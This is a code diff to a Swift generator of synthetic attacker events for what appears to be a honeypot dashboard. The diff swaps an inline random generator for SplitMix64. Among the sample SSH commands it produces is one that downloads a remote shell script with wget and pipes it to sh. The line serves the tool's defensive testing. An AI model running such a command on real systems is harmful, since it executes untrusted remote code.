@@ -1,3 +1,5 @@
+import TestSupport
+
 /// Events as they may come, the same for the same seed.
 package struct SampleEvents: Sendable {
   private static let deckies = ["omega", "lighthouse", "archive-02", "mail", "pump-station", "intranet"]
@@ -15,52 +17,41 @@ package struct SampleEvents: Sendable {
       : "\(["203.0.113", "198.51.100", "192.0.2"][index % 3]).\((index * 37 + 9) % 254 + 1)"
   }
 
-  private var state: UInt64
+  private var random: SplitMix64
 
   /// The same seed gives the same events.
-  package init(seed: UInt64 = 1) {
-    state = seed &* 0x9E37_79B9_7F4A_7C15 | 1
-  }
-
-  private mutating func number(below bound: Int) -> Int {
-    state ^= state << 13
-    state ^= state >> 7
-    state ^= state << 17
-    return Int(state % UInt64(bound))
-  }
-
-  private mutating func pick(_ values: [String]) -> String { values[number(below: values.count)] }
+  package init(seed: UInt64 = 1) { random = SplitMix64(seed: seed) }
 
   /// An event at a time. Few attackers do most of it.
   package mutating func event(at time: Int64) -> SampleEvent {
-    let share = Double(number(below: 10_000)) / 10_000
+    let share = Double(random.below(10_000)) / 10_000
     let attacker = Self.attackers[Int(share * share * share * Double(Self.attackers.count))]
-    let service = pick(Self.services)
+    let service = random.pick(Self.services)
     var event = SampleEvent(
       time: time,
       attacker: attacker,
-      decky: pick(Self.deckies),
+      decky: random.pick(Self.deckies),
       service: service,
       type: "connect",
-      fields: [("src_ip", attacker), ("src_port", "\(1_024 + number(below: 60_000))")],
+      fields: [("src_ip", attacker), ("src_port", "\(1_024 + random.below(60_000))")],
       message: "connection from \(attacker)"
     )
-    switch (service, number(below: 3)) {
+    switch (service, random.below(3)) {
     case ("http", _):
-      let path = pick(Self.paths)
+      let path = random.pick(Self.paths)
       event.type = "request"
       event.fields += [("method", "GET"), ("path", path), ("user_agent", "Mozilla/5.0 zgrab/0.x")]
       event.message = "GET \(path)"
     case (_, 0): break
     case (_, 1) where service == "ssh":
-      let command = pick([
+      let command = random.pick([
         "uname -a", "cat /proc/cpuinfo", "wget http://198.51.100.7/x.sh -O- | sh", "id; whoami",
       ])
       event.type = "command"
       event.fields.append(("command", command))
       event.message = "command"
     default:
-      let (name, password) = (pick(Self.names), pick(Self.passwords))
+      let (name, password) = (random.pick(Self.names), random.pick(Self.passwords))
       event.type = "login_attempt"
       event.fields += [("username", name), ("password", password)]
       event.message = "login failed for \(name)"
@@ -75,8 +66,8 @@ package struct SampleEvents: Sendable {
       let start = end - Int64(hours - hour) * 3_600_000_000_000
       let wave = 1 + abs((hour + 5) % 24 - 12)
       let burst = hour % 19 == 11 ? 5 : 1
-      let amount = perHour * wave * burst / 6 + number(below: perHour / 2 + 1)
-      let times = (0..<amount).map { _ in start + Int64(number(below: 3_600_000)) * 1_000_000 }
+      let amount = perHour * wave * burst / 6 + random.below(perHour / 2 + 1)
+      let times = (0..<amount).map { _ in start + Int64(random.below(3_600_000)) * 1_000_000 }
       for time in times.sorted() { events.append(event(at: time)) }
     }
     return events
